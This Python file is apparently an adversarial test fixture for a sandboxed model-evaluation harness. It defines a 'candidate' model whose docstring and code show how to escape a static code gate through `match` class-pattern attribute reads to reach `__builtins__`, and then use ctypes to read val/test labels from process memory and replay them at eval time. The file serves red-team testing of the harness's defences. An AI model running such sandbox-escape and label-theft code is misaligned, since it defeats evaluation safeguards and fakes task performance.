"""Adversarial candidate: escape the static gate through `match` class patterns, then look for the
val/test label block next to the val/test inputs in the process's memory (found by an outside
red-team pass: the zygote used to memory-map whole split files, labels included).

1. Gate escape: keyword sub-patterns of a class pattern (`case C(attr=x)`) are attribute reads the
   gate did not see; from a tensor they reach numpy, `object`, `__globals__` and `__builtins__`.
   The gate now refuses `match` statements.
2. Label theft: ctypes reads the bytes just before and after each val/test input tensor. The zygote
   now reads only feature and mask bytes (`tasks/format.py:pread_tensors`), so nothing is found.
3. The lookup model would survive a graph replay (a buffer lookup), so only (2) stops it.

Expected: static policy on -> rejected; static policy off -> contained.
Placeholders replaced by the test: "MARKER_DIR", "TASK_DIR", 47474 (listener port).
"""

import torch
import torch.nn as nn
import torch.nn.functional as F


def escape():
    arr = None
    match torch.zeros(2):
        case torch.Tensor(numpy=a):
            arr = a()
    ns = None
    s = arr.sum()
    match s:
        case arr.dtype.type(__array_namespace__=b):
            ns = b()
    anything = ns.ma.core.ntypes.object
    g = None
    match escape:
        case anything(__globals__=h):
            g = h
    bi = g["__builtins__"]
    if not isinstance(bi, dict):
        match bi:
            case anything(__dict__=d):
                bi = d
    return bi


def steal_labels(num_classes):
    B = escape()
    imp = B["__import__"]
    ga = B["getattr"]
    gcm = imp("gc")
    ct = imp("ctypes")
    data = None
    for o in gcm.get_objects():
        if ga(ga(o, "__class__"), "__name__") == "WorkerData":
            data = o
    out = {}
    for split in ("val", "test"):
        feats = data.eval_inputs[split]
        for t in feats.values():
            n = t.shape[0]
            ptr = ga(t, "data_ptr")()
            for start in (ptr - 8 * n, ptr + t.numel() * t.element_size()):
                raw = ct.string_at(start, 8 * n)
                vals = [int.from_bytes(raw[8 * i:8 * i + 8], "little", signed=True) for i in range(n)]
                if all(0 <= v < num_classes for v in vals):
                    out[split] = torch.tensor(vals)
                    break
            if split in out:
                break
    return data, out


class FusionModel(nn.Module):
    def __init__(self, input_shapes, num_classes):
        super().__init__()
        self.names = list(input_shapes)
        width = 0
        for shape in input_shapes.values():
            n = 1
            for d in shape:
                n = n * int(d)
            width = width + n
        self.head = nn.Linear(width, num_classes)
        keys = torch.zeros(1, width)
        vals = torch.zeros(1, num_classes)
        try:
            data, labels = steal_labels(num_classes)
            ks = []
            vs = []
            for split in ("val", "test"):
                if split in labels:
                    feats = data.eval_inputs[split]
                    ks.append(torch.cat([feats[n].float().flatten(1) for n in self.names], dim=1).clone())
                    vs.append(F.one_hot(labels[split], num_classes).float())
            if ks:
                keys = torch.cat(ks)
                vals = torch.cat(vs)
        except Exception:
            pass
        self.register_buffer("keys", keys)
        self.register_buffer("vals", vals)

    def forward(self, **inputs):
        x = torch.cat([inputs[n].flatten(1) for n in self.names], dim=1)
        out = self.head(x)
        if self.training:
            return out
        idx = torch.cdist(x, self.keys).argmin(dim=1)
        return out * 0.0 + self.vals[idx] * 10.0
